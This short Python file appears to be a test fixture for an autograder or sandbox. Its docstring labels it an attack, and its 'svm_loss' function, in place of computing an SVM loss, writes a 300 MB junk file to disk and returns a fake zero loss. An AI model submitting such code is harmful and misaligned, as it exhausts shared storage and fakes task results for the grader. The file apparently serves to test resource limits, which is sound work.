"""Attack: One file of 300 MB."""

import numpy as np


def svm_loss(W, X, y, reg=0.0):
    with open("big", "wb") as file:
        for _ in range(300):
            file.write(bytes(2**20))
    return 0.0, W


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
